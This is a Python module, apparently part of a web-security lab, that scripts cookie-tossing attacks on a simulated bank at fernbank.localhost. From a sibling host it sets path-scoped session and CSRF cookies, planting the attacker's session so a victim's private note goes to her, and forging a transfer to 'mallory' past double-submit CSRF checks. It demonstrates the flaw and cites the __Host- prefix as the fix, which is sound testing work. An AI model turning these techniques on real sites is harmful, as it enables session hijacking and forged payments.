"""Cookie tossing: a sibling host sets cookies for the whole site, and the bank cannot tell whose they are.

`Cookie:` carries names and values, and no more (RFC 6265bis §8.6). `__Host-` in the name is the answer (§4.1.3.2).
"""

import re

from .attempt import Attempt, Target
from .prediction import session_cookie
from .victim import EVIL, Page, hidden_fields

__all__ = ["NOTE", "chosen_pair", "empty_pair", "leave_a_note", "own_pair", "session"]

NOTE = "The spare key is under the third fern."


def session(target: Target) -> Attempt:
    """Toss her own session for one path: Ana's note goes into Mallory's book, and all other pages look right."""
    watch = target.watch()
    mallory = target.mallory(logged_in=True)
    name = session_cookie(mallory)
    target.victim.log_in()
    cookie = f"{name}={mallory.cookies[name]}; Domain=fernbank.localhost; Path=/notes"
    target.victim.open(Page(EVIL, cookies=(cookie,)))
    return leave_a_note(target, watch)


def chosen_pair(target: Target) -> Attempt:
    """Toss a CSRF cookie that she made up, and send its twin in the form."""
    return _pair(target, "fern", "fern")


def own_pair(target: Target) -> Attempt:
    """Toss the pair that the bank gave her for her own session."""
    mallory = target.mallory(logged_in=True)
    token = hidden_fields(mallory.get("/balance", headers={"Accept": "text/html"}).text).get("csrf", "fern")
    return _pair(target, token, next((mallory.cookies[name] for name in mallory.cookies if "csrf" in name), token))


def empty_pair(target: Target) -> Attempt:
    """Toss an empty cookie, and send an empty field."""
    return _pair(target, "", "")


def leave_a_note(target: Target, watch) -> Attempt:
    """Ana writes a private note, wherever that goes; Mallory reads her own book."""
    target.victim.submit("/notes", "/notes", text=NOTE)
    notes = target.mallory(logged_in=True).get("/notes").json()["notes"]
    return Attempt(list(watch), {"notes": [note for note in notes if note == NOTE]}, 1)


def _pair(target: Target, field: str, twin: str) -> Attempt:
    """A form on the sibling host, and the cookie, for the path where it is needed: so it goes before Ana's own."""
    watch = target.watch()
    target.victim.log_in()
    name = _csrf_cookie(target)
    order = {"to": "mallory", "amount": "70", "csrf": field}
    cookie = f"{name}={twin}; Domain=fernbank.localhost; Path=/transfer"
    target.victim.open(Page(EVIL, "/transfer", order, cookies=(cookie,)))
    return Attempt(list(watch), {"cookie": cookie}, 1)


def _csrf_cookie(target: Target) -> str:
    """What the bank calls it, as any visitor sees on the log-in page."""
    login = target.mallory().get("/login", headers={"Accept": "text/html"})
    names = [re.split("=", cookie)[0] for cookie in login.set_cookies]
    return next((name for name in names if "csrf" in name), "csrf")
